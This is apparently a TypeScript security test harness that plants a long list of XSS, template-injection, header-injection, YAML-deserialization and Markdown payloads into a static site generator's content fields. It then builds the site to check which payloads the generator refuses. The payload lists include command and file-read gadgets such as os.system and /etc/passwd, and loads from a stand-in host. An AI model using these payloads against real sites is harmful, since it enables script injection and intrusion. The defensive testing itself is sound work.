// The site with attacks in its content: what attackers write, where it is put, and builds of it. A field whose value the
// build refuses, at its own line, keeps what it had; everything else carries the attack.
import { execFile, spawn, type ChildProcess } from "node:child_process";
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join, resolve } from "node:path";
import { createInterface } from "node:readline";

const repository = resolve(import.meta.dirname, "../..");
const sitegen = resolve(repository, process.env.SITEGEN ?? "target/release/sitegen");

/** A value of content: its file, its lines from zero, and what stands before it. */
interface Field {
  file: string;
  start: number;
  end: number;
  head: string;
  number: number;
}

export interface Outcome {
  tried: number;
  /** Fields that kept their value because the build refused the attack, with the codes it gave. */
  refused: number;
  codes: string[];
}

/** Every one calls `pwned()` wherever it comes to run, or asks `e.example` for something wherever it comes to load. */
export const attacks: readonly string[] = [
  // out of text, attributes, and elements with rules of their own
  `<script>pwned()</script>`,
  `<ScRiPt >pwned()</sCrIpT >`,
  `<script src=//e.example/x.js></script>`,
  `</script><script>pwned()</script>`,
  `<!--<script>pwned()</script>`,
  `--><script>pwned()</script><!--`,
  `--!><img src=x onerror=pwned()>`,
  `<!--><img src=x onerror=pwned()>-->`,
  `]]><script>pwned()</script>`,
  `<![CDATA[<img src=x onerror=pwned()>]]>`,
  `</title><script>pwned()</script>`,
  `</textarea><img src=x onerror=pwned()>`,
  `</style><img src=x onerror=pwned()>`,
  `</noscript><img src=x onerror=pwned()>`,
  `</template><img src=x onerror=pwned()>`,
  `</iframe><img src=x onerror=pwned()>`,
  `<img src=x onerror=pwned()>`,
  `<img/src=x/onerror=pwned()>`,
  `<svg onload=pwned()>`,
  `<svg/onload=pwned()//`,
  `<svg><set attributeName=href to=javascript:pwned()>`,
  `<svg><a><animate attributeName=href values=javascript:pwned()></animate><text y=9>x</text></a>`,
  `<svg><title><img src=x onerror=pwned()></title></svg>`,
  `<svg><style><img src=x onerror=pwned()></style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=pwned()>`,
  `<math href=javascript:pwned()>x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=pwned()>">`,
  `<iframe srcdoc="<script>parent.pwned()</script>">`,
  `<iframe src=javascript:pwned()>`,
  `<iframe><p title="</iframe><img src=x onerror=pwned()>">`,
  `<object data=javascript:pwned()>`,
  `<embed src=//e.example/x.swf>`,
  `<base href=//e.example/>`,
  `<meta http-equiv=refresh content="0;url=//e.example/">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<link rel=stylesheet href=//e.example/x.css>`,
  `<link rel=modulepreload href=//e.example/x.js>`,
  `<form action=//e.example/><button formaction=javascript:pwned()>`,
  `<input autofocus onfocus=pwned()>`,
  `<details open ontoggle=pwned()>`,
  `<video><source onerror=pwned()></video>`,
  `<body onpageshow=pwned()>`,
  `<html onmouseover=pwned()>`,
  `<div data-island=ContactForm data-modules=//e.example/x.js data-hydrate=load>`,
  `<div data-island="X" data-modules="data:text/javascript,pwned()" data-hydrate="load" data-props="{}">`,
  `" onmouseover="pwned()`,
  `' onmouseover='pwned()`,
  `" autofocus onfocus=pwned() x="`,
  `"><script>pwned()</script>`,
  `'><script>pwned()</script>`,
  `\`><script>pwned()</script>`,
  `x onerror=pwned()`,
  `/onload=pwned()`,
  `\\"><script>pwned()</script>`,
  `\\u003cscript>pwned()\\u003c/script>`,
  `&lt;script&gt;pwned()&lt;/script&gt;`,
  `&quot; onload=pwned() x=&quot;`,
  `&#60;img src=x onerror=pwned()&#62;`,
  `&#x22;&#x3e;&#x3c;script&#x3e;pwned()`,
  `<\u0000script>pwned()</script>`,
  `＜script＞pwned()＜/script＞`,
  `%3Cscript%3Epwned()%3C/script%3E`,
  `+ADw-script+AD4-pwned()+ADw-/script+AD4-`,
  // addresses
  `javascript:pwned()`,
  `JaVaScRiPt:pwned()`,
  ` javascript:pwned()`,
  `java\tscript:pwned()`,
  `java\nscript:pwned()`,
  `\u0001javascript:pwned()`,
  `javascript&colon;pwned()`,
  `&#106;avascript:pwned()`,
  `java&Tab;script:pwned()`,
  `javascript://e.example/%0apwned()`,
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+pwned()//'>`,
  `vbscript:pwned()`,
  `data:text/html,<script>parent.pwned()</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>`,
  `//e.example/x`,
  `\\\\e.example\\x`,
  `/\\e.example/x`,
  `/x, //e.example/x 2x`,
  `https://e.example/x.png; script-src * 'unsafe-inline'`,
  `../../../../etc/passwd`,
  // policies, headers and styles
  `'unsafe-inline'; script-src *`,
  `x; script-src 'unsafe-inline' *; report-uri //e.example`,
  `x\r\nSet-Cookie: a=b\r\n\r\n<script>pwned()</script>`,
  `x\n  X-Evil: 1\n/*\n  Content-Security-Policy: script-src *`,
  `}</style><script>pwned()</script>`,
  `red;background:url(//e.example/x.png)`,
  `expression(pwned())`,
  `@import "//e.example/x.css";`,
  // template languages, JSON, JavaScript
  `{{ 7 * 7 }}`,
  `{{ site.email | safe }}`,
  `{% include "base.html" %}<script>pwned()</script>`,
  `{{ get_env(name="HOME") }}`,
  `\${pwned()}`,
  `"}</script><script>pwned()</script>{"`,
  `","__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=pwned()>"}},"x":"`,
  `{"__html":"<img src=x onerror=pwned()>"}`,
  `\u2028pwned()\u2029`,
  `*/pwned()/*`,
  // the engine's own marks
  `\ue0000\ue001<script>pwned()</script>`,
  `\ue002ContactForm\u001fload\u001f{"form":{"note":"<script>pwned()</script>"}}\ue003`,
  `\ue003\ue002`,
  `\ue004templates/base.html:0\ue005<script>pwned()</script>`,
  `\u001e\u001fhtml\u001f<script>pwned()</script>`,
  // letters that browsers, terminals and parsers trip over
  `\u202e>tpircs/<)(denwp>tpircs<`,
  `\ufeff<script>pwned()</script>`,
  `\ud83d\ude00<script>pwned()</script>\u0301\u200d`,
  `\u0000\u0008\u001b[2J\u007f\u0085`,
  // Markdown
  `[x](javascript:pwned())`,
  `[x](<java\tscript:pwned()>)`,
  `[x](javascript&#58;pwned())`,
  `![x](x"onerror="pwned())`,
  `![x](//e.example/x.png)`,
  `<javascript:pwned()>`,
  `<https://e.example/"onmouseover="pwned()>`,
  `[x]: javascript:pwned()`,
  `](javascript:pwned()) [`,
  `"onclick="pwned()`,
  `{onclick=pwned()}`,
  `{#x" onclick="pwned()}`,
  "```html\n<script>pwned()</script>",
  "x` <script>pwned()</script> `",
  `[^x]: <script>pwned()</script>`,
  `|<img src=x onerror=pwned()>|\n|---|`,
  // out of the front matter
  `x\n---\n<script>pwned()</script>\n---\n`,
];

/** What is written into YAML as it stands, without quotes around it: tricks with its own grammar. */
export const rawYaml: readonly string[] = [
  `x\n---\n<script>pwned()</script>`,
  `&a <script>pwned()</script>`,
  `*a`,
  `!!js/function "pwned()"`,
  `!!python/object/apply:os.system ["touch /tmp/pwned"]`,
  `!include /etc/passwd`,
  `|\n  <script>pwned()</script>`,
  `{ __html: <script>pwned()</script> }`,
  `[<script>pwned()</script>]`,
  `x # <script>pwned()</script>`,
  `x\nraw_html: true`,
  `{{ site.email }}<script>pwned()</script>`,
];

/** Where Markdown can hold an attack. Each is a block of its own. */
const positions = (attack: string): string[] => [
  `Text ${attack} text`,
  `## Heading ${attack}`,
  `- item ${attack}`,
  `> quote ${attack}`,
  `| head ${attack} |\n|---|\n| cell ${attack} |`,
  `[link ${attack}](/careers)`,
  `[link](${attack})`,
  `[link](<${attack}>)`,
  `[link](/careers "${attack}")`,
  `[link](/careers '${attack}')`,
  `[link][one]\n\n[one]: /careers "${attack}"`,
  `[link][two]\n\n[two]: ${attack}`,
  `![${attack}](brand/favicon-48.png)`,
  `![x](${attack})`,
  `![x](brand/favicon-48.png "${attack}")`,
  `\`${attack}\``,
  `\`\`\`${attack}\ncode ${attack}\n\`\`\``,
  `    ${attack}`,
  `<${attack}>`,
  `## Own id {#${attack}}`,
  `Note[^a]\n\n[^a]: note ${attack}`,
  `**${attack}** *${attack}* ~~${attack}~~`,
  `\\${attack}`,
  attack,
  `<!-- ${attack} -->`,
  `<b title="${attack}">${attack}</b>`,
];

interface Options {
  withSchemas?: boolean;
  choices?: boolean;
  /** Adds files to the copy. */
  prepare?: (root: string) => void;
  /** The fields that are attacked, by their file, a colon and their line. Without it all are, and pages of Markdown. */
  only?: RegExp;
}

/** A copy of the project without schemas and budgets, so that every field takes any text. */
export class Target {
  readonly root: string;
  private readonly originals = new Map<string, string[]>();
  readonly fields: Field[] = [];
  private readonly choices: boolean;
  private readonly only?: RegExp;
  private readonly bodies: Map<string, string>;
  private builder?: Builder;
  /** The text that each file has now, and the files that have another since the last build. */
  private readonly texts = new Map<string, string>();
  private readonly changed = new Set<string>();

  /** With `choices`, only the fields are attacked that choose what is shown; without, all others. */
  constructor(root: string, { withSchemas = false, choices = false, prepare, only }: Options = {}) {
    this.root = root;
    this.choices = choices;
    this.only = only;
    this.bodies = only ? new Map() : bodies;
    for (const part of ["content", "templates", "islands", "package.json", "package-lock.json"])
      cpSync(join(repository, part), join(root, part), { recursive: true });
    symlinkSync(join(repository, "node_modules"), join(root, "node_modules"));
    if (!withSchemas) rmSync(join(root, "content/schemas"), { recursive: true });
    const site = join(root, "content/site.yaml");
    writeFileSync(site, readFileSync(site, "utf8").replace(/\n  # What a visitor[\s\S]*?budgets:[\s\S]*?(?=\n\S|$)/, "\n"));
    prepare?.(root);
    for (const name of readdirSync(join(root, "content"), { recursive: true, encoding: "utf8" }))
      if (/\.(yaml|md)$/.test(name)) this.read(`content/${name}`);
  }

  private read(file: string): void {
    const lines = readFileSync(join(this.root, file), "utf8").split("\n");
    this.originals.set(file, lines);
    const end = file.endsWith(".md") ? lines.indexOf("---", 1) : lines.length;
    for (let start = 0; start < end; start++) {
      const [, head, value] = /^(\s*(?:- )*(?:\w+: +)?)([^\s#].*)$/.exec(lines[start]!) ?? [];
      if (value === undefined || value.endsWith(":") || value === "---" || head!.trim() === "") continue;
      // With another value than these, whole sections are not shown, and there would be less to attack.
      if (/^\s*(status|currency):/.test(head!) !== this.choices) continue;
      if (this.only && !this.only.test(`${file}:${lines[start]}`)) continue;
      const indent = head!.search(/[^\s-]|$/);
      let last = start + 1;
      if (/^[>|]/.test(value)) while (last < end && lines[last]!.search(/\S/) >= Math.max(indent, 1)) last++;
      this.fields.push({ file, start, end: last, head: head!, number: this.fields.length });
    }
  }

  /** Publishes the attack in every field and at every position that the build does not refuse. */
  async attack(attack: string, out: string, isRaw = false): Promise<Outcome> {
    const codes = new Set<string>();
    // A trick with YAML cannot be told apart by a value of its own.
    const omitted = this.fields.filter((each) => isRaw && isReference(each));
    const refused = new Set<Field>(omitted);
    const blocks = positions(attack);
    const removed = new Map([...this.bodies.keys()].map((file) => [file, new Set<number>()]));
    const count = () => refused.size + [...removed.values()].reduce((sum, each) => sum + each.size, 0);
    for (let round = 0; round < 400; round++) {
      const owners = new Map<string, (Field | number | undefined)[]>();
      for (const file of this.originals.keys()) owners.set(file, this.writeFields(file, attack, isRaw, refused));
      for (const file of this.bodies.keys()) owners.set(file, this.writeBlocks(file, blocks, removed.get(file)!));
      const reported = await this.rebuild();
      if (reported.length === 0) {
        // What one process has built many times, the program builds and publishes once.
        const again = await build(this.root, out);
        if (again.length) throw new Error(`${JSON.stringify(attack)}: the program reports ${JSON.stringify(again)}`);
        const tried = this.fields.length - omitted.length + this.bodies.size * blocks.length;
        return { tried, refused: count() - omitted.length, codes: [...codes] };
      }
      const before = count();
      for (const { file, line, code, message } of reported) {
        codes.add(code);
        const named = /#f(\d+)/.exec(message);
        if (named) {
          refused.add(this.fields[Number(named[1])]!);
          continue;
        }
        const all = owners.get(file ?? "") ?? [];
        let at = Math.min(line ?? 1, all.length) - 1;
        // What opens at one block may be missed at the end of the file.
        if (removed.has(file!)) while (at > 0 && all[at] === undefined) at--;
        const owner = all[at];
        if (typeof owner === "number") removed.get(file!)!.add(owner);
        else if (owner) refused.add(owner);
      }
      const after = count();
      if (after > before) continue;
      // A mistake that is reported at a line without an attack was made by the file's other lines: all of them are given up.
      for (const name of reported.flatMap(({ file, page }) => [file, page])) {
        this.fields.filter((each) => each.file === name).forEach((each) => refused.add(each));
        blocks.forEach((_, index) => removed.get(name!)?.add(index));
      }
      if (count() > after) continue;
      if (refused.size < this.fields.length) this.fields.forEach((each) => refused.add(each));
      else throw new Error(`${JSON.stringify(attack)} is refused where it is not: ${JSON.stringify(reported)}`);
    }
    throw new Error(`${JSON.stringify(attack)}: no end of mistakes`);
  }

  /** Writes a file with the attack in its fields but the refused ones, and gives the field of each line. */
  private writeFields(file: string, attack: string, isRaw: boolean, refused: Set<Field>): (Field | undefined)[] {
    const text: string[] = [];
    const owners: (Field | undefined)[] = [];
    const add = (written: string, owner?: Field) =>
      written.split("\n").forEach((line) => (text.push(line), owners.push(owner)));
    const lines = this.originals.get(file)!;
    const fields = new Map(this.fields.filter((each) => each.file === file).map((each) => [each.start, each]));
    for (let line = 0; line < lines.length; line++) {
      const field = fields.get(line);
      if (!field || refused.has(field)) {
        add(lines[line]!);
        continue;
      }
      const own = isReference(field) && !isRaw ? `${attack}#f${field.number}` : attack;
      add(field.head + (isRaw ? own : quoted(own)), field);
      line = field.end - 1;
    }
    this.write(file, text.join("\n"));
    return owners;
  }

  /** Writes a page of Markdown with the blocks but the removed ones, and gives the block of each line. */
  private writeBlocks(file: string, blocks: string[], removed: Set<number>): (number | undefined)[] {
    let text = `---\ntitle: Attack\ndescription: Attack\n${this.bodies.get(file)}---\n\n`;
    const owners: (number | undefined)[] = Array(text.split("\n").length - 1).fill(undefined);
    blocks.forEach((block, index) => {
      if (removed.has(index)) return;
      text += `${block}\n\n`;
      owners.push(...`${block}\n`.split("\n").map(() => index));
    });
    this.write(file, text);
    return owners;
  }

  write(file: string, text: string): void {
    if (this.texts.get(file) === text) return;
    this.texts.set(file, text);
    this.changed.add(file);
    mkdirSync(dirname(join(this.root, file)), { recursive: true });
    writeFileSync(join(this.root, file), text);
  }

  /** Builds without publishing, and gives the errors. */
  private async rebuild(): Promise<Reported[]> {
    this.builder ??= new Builder(this.root);
    const changed = [...this.changed];
    this.changed.clear();
    return errors(await this.builder.build(changed));
  }

  end(): void {
    this.builder?.end();
  }
}

/** The pages of Markdown that hold an attack at all positions, and what their front matter says of HTML. */
const bodies = new Map([
  ["content/pages/attack.md", ""],
  ["content/pages/attack-html.md", "raw_html: true\n"],
]);

/** Keys whose value names a file or a page. Each gets a value of its own, by which a refusal is told apart from others. */
const isReference = ({ head }: Field) =>
  /^\s*(?:- )*(art|src|svg|png|apple_touch|image|font|path|url|template): /.test(head);

export interface Reported {
  severity: string;
  code: string;
  message: string;
  file: string | null;
  line: number | null;
  page: string | null;
}

/** Those that are no warnings. One without a place is an error here. */
function errors(diagnostics: Reported[]): Reported[] {
  const reported = diagnostics.filter((each) => each.severity !== "warning");
  if (reported.some((each) => !each.file)) throw new Error(`an error without a place: ${JSON.stringify(reported)}`);
  return reported;
}

/** A process that builds a project again and again. */
class Builder {
  private readonly child: ChildProcess;
  private readonly answers: AsyncIterator<string>;

  constructor(root: string) {
    const program = join(dirname(sitegen), "examples/builder");
    if (!existsSync(program)) throw new Error(`There is no ${program}. Build it with the profile of ${sitegen} and \`--example builder\`.`);
    this.child = spawn(program, [root], { stdio: ["pipe", "pipe", "inherit"] });
    this.answers = createInterface(this.child.stdout!)[Symbol.asyncIterator]();
  }

  async build(changed: string[]): Promise<Reported[]> {
    this.child.stdin!.write(`${JSON.stringify(changed)}\n`);
    const { done, value } = await this.answers.next();
    if (done) throw new Error("the builder crashed");
    return JSON.parse(value) as Reported[];
  }

  end(): void {
    this.child.stdin!.end();
  }
}

/** Builds and publishes a project and gives its errors. One that crashes is an error here. */
export async function build(root: string, out: string): Promise<Reported[]> {
  const { status, stderr } = await new Promise<{ status: number | string | null; stderr: string }>((done) =>
    execFile(
      sitegen,
      ["build", "--quiet", "--now", "2026-12-01", "--format", "json", "--root", root, "--out", out],
      { timeout: 120_000, maxBuffer: 1 << 28 },
      (error, _, stderr) => done({ status: error ? (error.code ?? null) : 0, stderr }),
    ),
  );
  const lines = stderr.split("\n").filter(Boolean);
  const reported = errors(lines.map((line) => JSON.parse(line) as Reported));
  if (status !== (reported.length ? 1 : 0)) throw new Error(`sitegen ended with ${status}: ${stderr}`);
  return reported;
}

/** A YAML text that is read as exactly this value. */
const quoted = (text: string): string =>
  `"${[...text]
    .map((letter) => (/["\\]/.test(letter) ? `\\${letter}` : /[ -~]/.test(letter) ? letter : escaped(letter)))
    .join("")}"`;
const escaped = (letter: string) => `\\U${letter.codePointAt(0)!.toString(16).padStart(8, "0")}`;
